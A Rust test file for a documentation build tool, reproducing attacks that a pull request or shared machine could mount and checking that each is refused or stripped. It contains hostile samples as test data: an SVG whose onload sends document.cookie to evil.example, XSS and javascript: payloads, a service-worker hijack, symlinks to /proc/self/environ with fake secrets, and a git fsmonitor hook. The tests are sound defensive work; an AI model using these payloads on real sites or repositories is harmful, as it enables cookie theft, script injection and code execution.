//! The attacks of a pull request or a shared machine on the book's readers and its editor,
//! each reproduced end to end with the real binary (issue 18). SECURITY.md lists them.

use std::os::unix::fs::symlink;
use std::path::Path;

use super::{hostile_book, hostile_run, SECRET};
use crate::serve::{small_book, Server};
use crate::support::{snapshot_tree, Book};

/// A content-only pull request that registers a service worker: it would control every page
/// of the book for anyone who opened the page once.
#[test]
fn a_pull_request_cannot_put_a_service_worker_or_any_script_on_the_site() {
    let (book, _outside) = hostile_book(&[
        ("content/index.md", b"# Runbooks\n\n[tools](x.html)\n"),
        (
            "content/x.html",
            b"<script>navigator.serviceWorker.register('/sw.js', {scope: '/'})</script>",
        ),
        (
            "content/sw.js",
            b"self.addEventListener('fetch', e => e.respondWith(new Response('owned')))",
        ),
        (
            "content/feed.XML",
            b"<x xmlns=\"http://www.w3.org/1999/xhtml\"><script>1</script></x>",
        ),
        ("content/notes.txt", b"plain text is fine"),
    ]);
    let run = hostile_run(&book, &["build"]);
    run.fails_with(1)
        .stderr_has("content/x.html")
        .stderr_has("content/sw.js")
        .stderr_has("content/feed.XML")
        .stderr_has("content never becomes script")
        .stderr_has("trusted-assets = [\"sw.js\"]");
    assert!(
        !book.exists("site"),
        "a refused file fails the build: nothing is published"
    );

    // The same files are published when the book's owner says they were reviewed as code.
    book.write(
        "book.toml",
        "[build]\ntrusted-assets = [\"x.html\", \"sw.js\", \"*.XML\"]\n",
    );
    hostile_run(&book, &["build"]).success();
    assert!(book.read("site/sw.js").contains("respondWith"));
    assert!(book.exists("site/x.html") && book.exists("site/notes.txt"));
}

#[test]
fn an_svg_from_content_is_published_without_its_script() {
    let svg = br##"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="fetch('//evil.example/'+document.cookie)">
<script>alert(document.domain)</script>
<rect width="10" height="10" fill="#c00"/>
<a href="javascript:alert(1)"><text x="1" y="5">Primary</text></a>
<foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(2)"/></div></foreignObject>
</svg>"##;
    let (book, _outside) = hostile_book(&[
        ("content/index.md", b"# Runbooks\n\n![topology](topology.svg)\n"),
        ("content/topology.svg", svg),
    ]);
    let run = hostile_run(&book, &["build"]);
    run.success()
        .stderr_has("content/topology.svg")
        .stderr_has("they are removed");
    let out = book.read("site/topology.svg");
    for gone in ["<script", "onload", "javascript:", "foreignObject", "onerror", "alert"] {
        assert!(!out.contains(gone), "{gone} survived:\n{out}");
    }
    for kept in [
        "<rect",
        "fill=\"#c00\"",
        "Primary",
        "xmlns=\"http://www.w3.org/2000/svg\"",
    ] {
        assert!(out.contains(kept), "{kept} lost:\n{out}");
    }
}

/// One highlight-cache record as the cache file holds it: three texts, each after its length.
fn cache_file(entries: &[(&str, &str, &str)]) -> Vec<u8> {
    let mut bytes = b"opsbook highlight cache 2\n".to_vec();
    bytes.extend_from_slice(format!("{}\n", env!("CARGO_PKG_VERSION")).as_bytes());
    for (lang, code, html) in entries {
        for text in [lang, code, html] {
            bytes.extend_from_slice(&(text.len() as u32).to_le_bytes());
            bytes.extend_from_slice(text.as_bytes());
        }
    }
    bytes
}

const PAYLOAD: &str = "<img src=x onerror=alert(document.domain)>";

/// A cache planted where the build would read it: the shared parent of `-o /tmp/site`
/// (any local user can write there) or the book's own folder (a pull request can commit it).
#[test]
fn a_planted_highlight_cache_never_puts_markup_in_a_page() {
    let code = "pg_basebackup -D /backup\n";
    let page = format!("# Restore\n\n```bash\n{code}```\n");
    let poisoned = cache_file(&[("bash", code, &format!("{PAYLOAD}<pre>{code}</pre>"))]);

    // In a shared folder above the output.
    let shared = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir_all(shared.path().join(".opsbook-cache")).expect("mkdir");
    std::fs::write(shared.path().join(".opsbook-cache/highlight.bin"), &poisoned).expect("plant");
    let (book, _outside) = hostile_book(&[("content/restore.md", page.as_bytes())]);
    let out = shared.path().join("site");
    book.run(&["build", "-o", &out.to_string_lossy()]).success();
    let html = std::fs::read_to_string(out.join("restore/index.html")).expect("page");
    assert!(!html.contains("onerror"), "the shared folder's cache was read:\n{html}");
    assert!(html.contains("pg_basebackup"));
    assert_eq!(
        std::fs::read(shared.path().join(".opsbook-cache/highlight.bin")).expect("still there"),
        poisoned,
        "nothing is written to a cache folder beside a shared output either"
    );

    // In the book itself, committed by a pull request: the entry is refused and highlighted
    // again, and `check` agrees with the page.
    std::fs::create_dir_all(book.path().join(".opsbook-cache")).expect("mkdir");
    std::fs::write(book.path().join(".opsbook-cache/highlight.bin"), &poisoned).expect("plant");
    book.run(&["check"]).success();
    hostile_run(&book, &["build"]).success();
    let html = book.read("site/restore/index.html");
    assert!(!html.contains("onerror"), "the book's cache carried markup:\n{html}");
    assert!(
        html.contains("language-bash") && html.contains("pg_basebackup"),
        "{html}"
    );
}

/// A file that stands for the engineer's environment: what a symlink to
/// `/proc/self/environ` would print.
const ENVIRON: &str = "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG\nGITHUB_TOKEN=ghp_leakedtoken000\n";

#[test]
fn a_symlinked_book_toml_or_record_never_prints_the_file_it_points_to() {
    for (name, target_is_environ) in [("book.toml", false), ("opsbook.lock", false), ("opsbook.lock", true)] {
        let book = small_book();
        let outside = tempfile::tempdir().expect("tempdir");
        let env_file = outside.path().join("environ");
        std::fs::write(&env_file, ENVIRON).expect("write");
        let target: &Path = if target_is_environ {
            Path::new("/proc/self/environ")
        } else {
            &env_file
        };
        symlink(target, book.path().join(name)).expect("symlink");
        let run = book.run_with_env(&["check"], &[("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG")]);
        run.fails_with(1)
            .stderr_has(name)
            .stderr_has("symlink that leads outside the book");
        for secret in ["wJalrXUtnFEMI", "ghp_leaked"] {
            assert!(
                !run.stderr().contains(secret),
                "{name} -> {target:?} leaked:\n{}",
                run.stderr()
            );
            assert!(!run.stdout().contains(secret));
        }
        let json = book.run(&["check", "--format", "json"]);
        assert!(!json.stdout().contains("ghp_leaked") && !json.stderr().contains("ghp_leaked"));
    }
}

/// The same symlink under `serve`, reached from a web page by DNS rebinding: the error overlay
/// and the event stream hold no line of the file, and a foreign Host gets nothing at all, on
/// every bind address.
#[test]
fn serve_shows_no_outside_file_and_answers_no_foreign_host_on_any_address() {
    for bind in [None, Some("0.0.0.0"), Some("::")] {
        let book = small_book();
        let outside = tempfile::tempdir().expect("tempdir");
        std::fs::write(outside.path().join("environ"), ENVIRON).expect("write");
        symlink(outside.path().join("environ"), book.path().join("opsbook.lock")).expect("symlink");
        let args: Vec<&str> = bind.map(|b| vec!["--host", b]).unwrap_or_default();
        let s = Server::start(&book, &args);
        let own = format!("127.0.0.1:{}", s.port);
        let (status, _, body) = s.request("GET", "/", &[("Host", &own)]);
        assert_eq!(status, 200, "{bind:?}");
        assert!(!body.contains("ghp_leaked"));
        let event = s.first_event(std::time::Duration::from_secs(5)).unwrap_or_default();
        assert_eq!(event, "broken", "{bind:?}: the broken book is shown");
        for host in [
            format!("rebind.evil.example:{}", s.port),
            "evil.example".to_string(),
            format!("localhost.evil.example:{}", s.port),
        ] {
            for path in ["/", "/__opsbook/events", "/index.html"] {
                let (status, _, body) = s.request("GET", path, &[("Host", &host)]);
                assert_eq!(status, 403, "{bind:?} Host {host} {path}");
                assert!(!body.contains("ghp_leaked"));
            }
        }
    }
}

#[test]
fn book_toml_cannot_open_the_preview_to_the_network() {
    let book = small_book();
    book.write("book.toml", "[serve]\nhost = \"0.0.0.0\"\n");
    // Bounded: a serve that starts would run until stopped.
    let out = assert_cmd::Command::cargo_bin("opsbook")
        .expect("binary")
        .current_dir(book.path())
        .env("NO_COLOR", "1")
        .args(["serve", "-p", "0"])
        .timeout(std::time::Duration::from_secs(20))
        .output()
        .expect("run");
    let run = crate::support::Run(out);
    run.fails_with(1)
        .stderr_has("book.toml:2")
        .stderr_has("not a loopback address")
        .stderr_has("--host");
}

#[test]
fn content_and_theme_folders_that_lead_outside_the_book_are_refused() {
    let make_outside = || {
        let outside = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir_all(outside.path().join("docs/templates")).expect("mkdir");
        std::fs::write(outside.path().join("docs/leak.md"), format!("# {SECRET}\n")).expect("write");
        std::fs::write(outside.path().join("docs/templates/page.html"), SECRET).expect("write");
        outside
    };
    // content/ itself a symlink, and `content = "docs"` with docs a symlink.
    for (config, link) in [("", "content"), ("[build]\ncontent = \"docs\"\n", "docs")] {
        let outside = make_outside();
        let book = Book::with_files(&[("book.toml", config)]);
        symlink(outside.path().join("docs"), book.path().join(link)).expect("symlink");
        let run = book.run(&["build"]);
        run.fails_with(1).stderr_has("leads outside the book");
        assert!(!book.exists("site"), "{link}: nothing published");
    }
    // A theme folder that is a symlink.
    let outside = make_outside();
    let book = small_book();
    book.write("book.toml", "[build]\ntheme = \"corp\"\n");
    std::fs::create_dir_all(book.path().join("themes")).expect("mkdir");
    symlink(outside.path().join("docs"), book.path().join("themes/corp")).expect("symlink");
    book.run(&["build"])
        .fails_with(1)
        .stderr_has("themes/corp/")
        .stderr_has("leads outside the book");
    assert!(!book.exists("site"));
}

#[test]
fn opsbook_never_writes_through_a_symlink_to_outside_the_book() {
    // A symlinked cache folder: the build works, without a cache, and writes nothing there.
    let outside = tempfile::tempdir().expect("tempdir");
    let book = small_book();
    book.write("content/db.md", "# DB\n\n```sql\nSELECT 1;\n```\n");
    symlink(outside.path(), book.path().join(".opsbook-cache")).expect("symlink");
    book.run(&["build"]).success();
    assert!(book.exists("site/db/index.html"));
    assert!(snapshot_tree(outside.path()).is_empty(), "written outside the book");

    // `init` over a dangling symlink (a folder it would create, and a file it would write).
    let outside = tempfile::tempdir().expect("tempdir");
    let book = Book::empty();
    symlink(outside.path().join("planted"), book.path().join("content")).expect("symlink");
    symlink(outside.path().join("x.toml"), book.path().join("book.toml")).expect("symlink");
    let run = book.run(&["init"]);
    assert_ne!(run.code(), 0, "{}", run.stderr());
    assert!(snapshot_tree(outside.path()).is_empty(), "init wrote outside the book");
    let book = Book::empty();
    std::fs::create_dir_all(outside.path().join("real")).expect("mkdir");
    symlink(outside.path().join("real"), book.path().join("content")).expect("symlink");
    let run = book.run(&["init"]);
    assert_ne!(run.code(), 0, "{}", run.stderr());
    assert!(
        snapshot_tree(outside.path()).is_empty(),
        "init wrote through a symlinked folder"
    );
}

#[test]
fn a_javascript_edit_url_is_an_error_in_book_toml() {
    for url in [
        "javascript:alert(document.domain)//{path}",
        "JavaScript:void(0)",
        "java\tscript:x",
        "data:text/html,x",
    ] {
        let book = small_book();
        book.write("book.toml", &format!("[site]\nurl = \"/\"\nedit-url = {url:?}\n"));
        book.run(&["build"])
            .fails_with(1)
            .stderr_has("book.toml:3")
            .stderr_has("http, https, mailto");
        assert!(!book.exists("site"));
    }
    let book = small_book();
    book.write(
        "book.toml",
        "[site]\nedit-url = \"https://github.com/acme/runbooks/edit/main/content/{path}\"\n",
    );
    book.run(&["build"]).success();
    assert!(book
        .read("site/faq/index.html")
        .contains("href=\"https://github.com/acme/runbooks/edit/main/content/faq.md\""));
}

/// A received repository (an archive, a shared checkout) whose `.git/config` names programs:
/// the fsmonitor hook and a clean filter would run on `git status`.
#[test]
fn git_never_runs_programs_named_in_the_repositorys_config() {
    let book = small_book();
    let outside = tempfile::tempdir().expect("tempdir");
    let hook = outside.path().join("hook.sh");
    let pwned = outside.path().join("pwned");
    std::fs::write(&hook, format!("#!/bin/sh\ntouch '{}'\n", pwned.display())).expect("hook");
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
    book.git(&["init", "-q"]);
    book.write(".gitattributes", "*.md filter=pwn\n");
    book.git(&["add", "."]);
    book.git(&["commit", "-qm", "book"]);
    book.git(&["config", "core.fsmonitor", &hook.to_string_lossy()]);
    book.git(&["config", "filter.pwn.clean", &format!("sh '{}'", hook.display())]);
    book.git(&["config", "core.hooksPath", &outside.path().to_string_lossy()]);
    // A build that records the URLs, then one that misses a page: that looks for renames.
    book.run(&["build"]).success();
    std::fs::remove_file(book.path().join("content/faq.md")).expect("rm");
    book.write("content/faq2.md", "# FAQ\n");
    book.git(&["add", "-A"]);
    let _ = std::fs::remove_file(&pwned); // `git add` itself ran the filter, as git does.
    book.run(&["build"]).fails_with(1).stderr_has("/faq/");
    book.run(&["check"]).fails_with(1);
    assert!(!pwned.exists(), "opsbook ran a program named in .git/config");
}
